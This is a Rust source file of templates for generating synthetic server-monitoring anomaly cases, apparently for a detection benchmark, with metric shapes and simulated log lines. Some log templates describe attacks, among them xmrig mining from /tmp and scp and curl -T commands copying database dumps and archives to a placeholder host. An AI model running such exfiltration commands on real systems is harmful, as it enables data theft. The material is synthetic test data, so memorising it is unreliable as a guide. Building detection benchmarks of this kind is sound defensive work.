//! Scenario templates the generator draws from: one metric-and-log plan
//! per anomaly type, deceptive normal scenarios whose logs explain an
//! anomalous-looking metric benignly, and a pool of inert background noise
//! lines. Log templates carry placeholders (`{p}` pid, `{d}` small number,
//! `{q}` large number, `{h}` hex token, `{x}` mac address) that the
//! generator fills per case.

use crate::model::{AnomalyType, MetricName, PatternType};

/// Shape request for one generated metric series. `pattern: None` asks for
/// a calm series that matches no shape predicate.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct MetricPlan {
    pub metric: MetricName,
    pub pattern: Option<PatternType>,
    /// Floor of the series' working range.
    pub low: f64,
    /// Ceiling of the series' working range.
    pub high: f64,
}

const fn shaped(metric: MetricName, pattern: PatternType, low: f64, high: f64) -> MetricPlan {
    MetricPlan {
        metric,
        pattern: Some(pattern),
        low,
        high,
    }
}

/// Generation plan for one anomaly type.
pub(crate) struct AnomalyScenario {
    pub anomaly_type: AnomalyType,
    pub scenario: &'static str,
    /// Carries the type's rule-relevant pattern; present in every case.
    pub primary: MetricPlan,
    /// Correlated side effect; present only in difficult cases.
    pub secondary: MetricPlan,
    /// One variant group per `must_match` regex of the type's log
    /// signature; the generator plants one line from each group.
    pub signature_variants: &'static [&'static [&'static str]],
    /// Scenario-colored background lines that match no signature.
    pub flavor: &'static [&'static str],
}

/// Generation plan for one normal scenario. Deceptive scenarios plant an
/// anomalous-looking metric shape; their logs explain it benignly.
pub(crate) struct NormalScenario {
    pub scenario: &'static str,
    /// The deceptive metric shape; `None` marks a quiet scenario.
    pub plan: Option<MetricPlan>,
    pub explain: &'static [&'static str],
}

pub(crate) const ANOMALY_SCENARIOS: [AnomalyScenario; 10] = [
    AnomalyScenario {
        anomaly_type: AnomalyType::Mine,
        scenario: "covert-miner",
        primary: shaped(MetricName::Cpu, PatternType::Spike, 5.0, 98.0),
        secondary: shaped(MetricName::Memory, PatternType::GradualIncrease, 35.0, 80.0),
        signature_variants: &[
            &[
                "audit[{p}]: EXECVE /tmp/.cache/xmrig --threads {d} --donate-level 0",
                "top: highest cpu consumer is xmrig (pid {p})",
            ],
            &[
                "CRON[{p}]: (root) CMD (/tmp/.cache/update.sh)",
                "cron[{p}]: @reboot job for user root started",
            ],
        ],
        flavor: &["sshd[{p}]: Accepted publickey for root from 198.51.100.{d}"],
    },
    AnomalyScenario {
        anomaly_type: AnomalyType::Oom,
        scenario: "heap-leak",
        primary: shaped(MetricName::Memory, PatternType::GradualIncrease, 35.0, 97.0),
        secondary: shaped(MetricName::Cpu, PatternType::Fluctuation, 5.0, 70.0),
        signature_variants: &[
            &[
                "kernel: Out of memory: oom-killer invoked for java (pid {p})",
                "kernel: oom-kill victim selected: java ({p})",
            ],
            &[
                "java[{p}]: Full GC pause {d}ms, heap at 97%",
                "jvm[{p}]: consecutive GC cycles reclaiming almost nothing",
            ],
        ],
        flavor: &["java[{p}]: allocation rate climbing steadily"],
    },
    AnomalyScenario {
        anomaly_type: AnomalyType::GpuHijack,
        scenario: "rogue-gpu-job",
        primary: shaped(MetricName::Gpu, PatternType::Spike, 0.0, 99.0),
        secondary: shaped(MetricName::Cpu, PatternType::Spike, 5.0, 85.0),
        signature_variants: &[
            &[
                "containerd: started unregistered container {h} with gpu access",
                "orchestrator: image sha256:{h} not in the registry allowlist",
            ],
            &[
                "nvidia: new CUDA context created by pid {p}",
                "scheduler: gpu compute job submitted outside the batch system",
            ],
        ],
        flavor: &["kubelet: pod gpu-worker-{d} resources rebalanced"],
    },
    AnomalyScenario {
        anomaly_type: AnomalyType::PortScan,
        scenario: "port-sweep",
        primary: shaped(MetricName::NetIn, PatternType::Fluctuation, 2.0, 75.0),
        secondary: shaped(MetricName::NetOut, PatternType::Fluctuation, 2.0, 70.0),
        signature_variants: &[
            &[
                "sshd[{p}]: connection attempt from 198.51.100.{d} port {q}",
                "firewalld: connection attempt to closed port {q}/tcp",
            ],
            &[
                "kernel: nf_conntrack: new flow dropped, table pressure high",
                "sshd[{p}]: connection refused for 198.51.100.{d}",
            ],
        ],
        flavor: &["portsentry: sequential probes across ports 1-1024"],
    },
    AnomalyScenario {
        anomaly_type: AnomalyType::IcmpFloodDos,
        scenario: "ping-flood",
        primary: shaped(MetricName::NetIn, PatternType::Spike, 1.0, 90.0),
        secondary: shaped(MetricName::Cpu, PatternType::Spike, 5.0, 75.0),
        signature_variants: &[
            &[
                "kernel: icmp echo request storm from 203.0.113.{d}",
                "netmon: icmp echo request count {q} in 5s window",
            ],
            &[
                "kernel: ICMP flood detected, enabling rate-limit",
                "netmon: ingress burst far above interface baseline",
            ],
        ],
        flavor: &["netmon: interrupt load concentrated on eth0 queue 0"],
    },
    AnomalyScenario {
        anomaly_type: AnomalyType::DnsAmplification,
        scenario: "open-resolver-abuse",
        primary: shaped(MetricName::NetOut, PatternType::Spike, 1.0, 95.0),
        secondary: shaped(MetricName::Cpu, PatternType::Spike, 5.0, 75.0),
        signature_variants: &[
            &[
                "named[{p}]: {q} dns queries of type ANY from 192.0.2.{d}",
                "dnsdist: dns query volume {q}/s sustained",
            ],
            &[
                "named[{p}]: warning: acting as open resolver",
                "audit: open resolver exposure confirmed by external probe",
            ],
        ],
        flavor: &["named[{p}]: zone example.com transferred"],
    },
    AnomalyScenario {
        anomaly_type: AnomalyType::DataExfiltration,
        scenario: "bulk-copy-out",
        primary: shaped(MetricName::NetOut, PatternType::GradualIncrease, 1.0, 85.0),
        secondary: shaped(MetricName::DiskIo, PatternType::GradualIncrease, 1.0, 120.0),
        signature_variants: &[
            &[
                "audit[{p}]: EXECVE /usr/bin/scp -r /var/lib/db-dumps ops@{h}:/incoming",
                "proc: curl -T /srv/archive-{d}.tgz launched by uid {p}",
            ],
            &[
                "netflow: sustained outbound transfer to 203.0.113.{d}:443",
                "fw: outbound volume {q} MB over 10m from db subnet",
            ],
        ],
        flavor: &["sshd[{p}]: session opened for user svc-batch"],
    },
    AnomalyScenario {
        anomaly_type: AnomalyType::ArpSpoofing,
        scenario: "gateway-impersonation",
        primary: shaped(MetricName::NetIn, PatternType::Fluctuation, 2.0, 70.0),
        secondary: shaped(MetricName::NetOut, PatternType::Fluctuation, 2.0, 70.0),
        signature_variants: &[
            &[
                "kernel: arp reply for 10.0.0.1 from {x}",
                "arpwatch: unsolicited arp reply seen on eth0",
            ],
            &[
                "arpwatch: flip flop 10.0.0.1 {x} -> {x}",
                "kernel: duplicate address 10.0.0.1 reported on eth0",
            ],
        ],
        flavor: &["dhcpd: lease renewed for 10.0.0.{d}"],
    },
    AnomalyScenario {
        anomaly_type: AnomalyType::LogStorm,
        scenario: "crawler-hammering",
        primary: shaped(MetricName::DiskIo, PatternType::Spike, 5.0, 200.0),
        secondary: shaped(MetricName::Cpu, PatternType::Spike, 5.0, 85.0),
        signature_variants: &[
            &[
                "nginx: crawler burst from UA SpiderBot/{d}.0",
                "accesslog: crawler fetching /search permutations",
            ],
            &[
                "nginx: request rate-limit engaged for /search",
                "syslog-ng: output queue full, begins to drop messages",
            ],
        ],
        flavor: &["nginx: upstream latency rising on /search"],
    },
    AnomalyScenario {
        anomaly_type: AnomalyType::LogGrowthAnomaly,
        scenario: "runaway-log-volume",
        primary: shaped(MetricName::DiskIo, PatternType::GradualIncrease, 1.0, 180.0),
        secondary: shaped(MetricName::Memory, PatternType::GradualIncrease, 30.0, 75.0),
        signature_variants: &[
            &[
                "backupd[{p}]: backup job nightly-full running in verbose mode",
                "tasklog: backup job for /var/log emitted {q} lines",
            ],
            &[
                "logrotate: rotation skipped: stale lock at /var/lock/logrotate",
                "backupd[{p}]: retention policy disabled by operator",
            ],
        ],
        flavor: &["df: /var at {d}% and climbing"],
    },
];

/// Number of leading [`NORMAL_SCENARIOS`] entries that are deceptive; the
/// remainder are quiet.
pub(crate) const DECEPTIVE_NORMALS: usize = 12;

pub(crate) const NORMAL_SCENARIOS: [NormalScenario; 14] = [
    NormalScenario {
        scenario: "apt-upgrade-burst",
        plan: Some(shaped(MetricName::Cpu, PatternType::Spike, 5.0, 85.0)),
        explain: &[
            "apt-daily.service: unattended upgrade of {d} packages started",
            "dpkg: unpacking linux-headers-{d}-generic",
            "apt-daily.service: upgrade finished cleanly",
        ],
    },
    NormalScenario {
        scenario: "weekly-archive",
        plan: Some(shaped(MetricName::DiskIo, PatternType::Spike, 5.0, 200.0)),
        explain: &[
            "anacron: weekly archive task started",
            "tar: wrote {q} MB to /backup/srv.tar",
            "anacron: archive task finished in {d}m",
        ],
    },
    NormalScenario {
        scenario: "load-test-traffic",
        plan: Some(shaped(
            MetricName::NetIn,
            PatternType::Fluctuation,
            2.0,
            75.0,
        )),
        explain: &[
            "loadtest: synthetic scenario {d} driving traffic",
            "haproxy: all backends healthy",
            "loadtest: request rate oscillating by design",
        ],
    },
    NormalScenario {
        scenario: "video-transcode",
        plan: Some(shaped(MetricName::Gpu, PatternType::Spike, 0.0, 99.0)),
        explain: &[
            "mediaworker: transcode batch {d} started",
            "ffmpeg[{p}]: nvenc session opened for render-{d}.mp4",
            "mediaworker: batch on schedule",
        ],
    },
    NormalScenario {
        scenario: "cache-warmup",
        plan: Some(shaped(
            MetricName::Memory,
            PatternType::GradualIncrease,
            35.0,
            80.0,
        )),
        explain: &[
            "redis[{p}]: warming cache from snapshot",
            "redis[{p}]: used memory rising as expected during warmup",
            "redis[{p}]: warmup {d}% complete",
        ],
    },
    NormalScenario {
        scenario: "traffic-drain",
        plan: Some(shaped(
            MetricName::Cpu,
            PatternType::GradualDecrease,
            5.0,
            90.0,
        )),
        explain: &[
            "lb: node draining from rotation",
            "autoscaler: scale-in event, shedding load",
            "lb: drain {d}% complete",
        ],
    },
    NormalScenario {
        scenario: "nightly-etl",
        plan: Some(shaped(
            MetricName::DiskIo,
            PatternType::GradualIncrease,
            1.0,
            180.0,
        )),
        explain: &[
            "etl[{p}]: staged extract growing under /data/stage",
            "etl[{p}]: checkpoint {d} of 12 complete",
            "etl[{p}]: throughput nominal",
        ],
    },
    NormalScenario {
        scenario: "planned-failover",
        plan: Some(shaped(MetricName::NetOut, PatternType::Dip, 1.0, 90.0)),
        explain: &[
            "keepalived: VIP moved to standby",
            "haproxy: backend pool set to maintenance",
            "ops: planned failover window open",
        ],
    },
    NormalScenario {
        scenario: "blue-green-switch",
        plan: Some(shaped(MetricName::NetOut, PatternType::Spike, 1.0, 95.0)),
        explain: &[
            "deploy: blue-green switch, mirroring state to new pool",
            "rsyncd[{p}]: transferred {q} MB to green pool",
            "deploy: cutover verified",
        ],
    },
    NormalScenario {
        scenario: "gc-tuning-trial",
        plan: Some(shaped(
            MetricName::Memory,
            PatternType::Fluctuation,
            15.0,
            70.0,
        )),
        explain: &[
            "jvm[{p}]: heap resize experiment running",
            "perfteam: garbage collector tuning trial {d}",
            "jvm[{p}]: experiment within expected envelope",
        ],
    },
    NormalScenario {
        scenario: "mirror-refresh",
        plan: Some(shaped(MetricName::NetIn, PatternType::Spike, 1.0, 90.0)),
        explain: &[
            "apt-mirror: repository refresh pulling {q} MB",
            "apt-mirror: checksums verified for {d} indexes",
            "apt-mirror: refresh complete",
        ],
    },
    NormalScenario {
        scenario: "log-replay",
        plan: Some(shaped(
            MetricName::DiskIo,
            PatternType::Fluctuation,
            2.0,
            60.0,
        )),
        explain: &[
            "kafka: consumer group replaying from offset {q}",
            "kafka: fetch batches alternating between brokers",
            "kafka: replay ETA {d}m",
        ],
    },
    NormalScenario {
        scenario: "steady-state",
        plan: None,
        explain: &["ops: routine window, nothing scheduled"],
    },
    NormalScenario {
        scenario: "weekend-lull",
        plan: None,
        explain: &["ops: weekend change freeze in effect"],
    },
];

/// Benign background lines shared by every case. None of them matches any
/// signature regex, positive or negative.
pub(crate) const NOISE_POOL: &[&str] = &[
    "systemd[1]: Started Daily apt download activities.",
    "sshd[{p}]: Accepted publickey for deploy from 10.0.{d}.{d}",
    "systemd: Reloading.",
    "kubelet: volume mount ok for pod web-{h}",
    "ntpd[{p}]: clock step +0.0{d} s",
    "dockerd: health check passed for registry-cache",
    "kernel: eth0: link up, 10Gbps full duplex",
    "postfix/qmgr[{p}]: queue active, 0 deferred",
    "systemd-logind: New session {d} of user ops.",
    "rsyslogd: action 'fwd' resumed",
    "etcd: compacted raft log at index {q}",
    "app[{p}]: healthz 200 in {d}ms",
];

/// Calm working range for each telemetry channel.
pub(crate) fn calm_plan(metric: MetricName) -> MetricPlan {
    let (low, high) = match metric {
        MetricName::Cpu => (4.0, 30.0),
        MetricName::Memory => (20.0, 55.0),
        MetricName::Gpu => (0.5, 6.0),
        MetricName::DiskIo => (2.0, 30.0),
        MetricName::NetIn => (1.0, 20.0),
        MetricName::NetOut => (1.0, 20.0),
    };
    MetricPlan {
        metric,
        pattern: None,
        low,
        high,
    }
}
